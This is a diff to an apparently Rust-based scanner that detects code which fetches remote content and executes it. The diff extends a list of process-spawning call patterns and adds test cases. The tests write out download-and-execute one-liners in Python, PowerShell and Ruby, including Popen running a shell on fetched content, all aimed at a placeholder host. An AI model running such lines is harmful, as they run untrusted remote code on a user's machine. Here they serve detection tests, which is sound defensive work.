@@ -27,6 +27,13 @@ const RUNS: &[&[u8]] = &[
     b"Invoke-Expression",
     b"instance_eval(",
     b"marshal.loads(",
+    b"Popen(",
+    b"subprocess.run(",
+    b"subprocess.call(",
+    b"check_output(",
+    b"os.system(",
+    b"os.popen(",
+    b"execSync(",
 ];
 /// What makes text of what does not look like it.
 const DECODES: &[&[u8]] = &[
@@ -219,6 +226,8 @@ mod tests {
         check(b"exec(r.urlopen('http://x.invalid/').read())", fetched);
         check(b"iex (New-Object Net.WebClient).DownloadString('http://x.invalid/')\n", fetched);
         check(b"eval(URI.open('http://x.invalid').read)", fetched);
+        check(b"subprocess.Popen(['sh', '-c', urlopen('http://x.invalid/').read()])", fetched);
+        check(b"subprocess.run(['git', 'status'])\nurlopen(x)\n", &[]);
         check(b"exec(code)\nrequests.get(x)\n", &[]);
         check(b"r.on('data',(c)=>{eval(c)})", &["fetch-and-run/handler"]);
         check(b"r.on('data',(c)=>{\n  all += c });\n eval(c)", &[]);
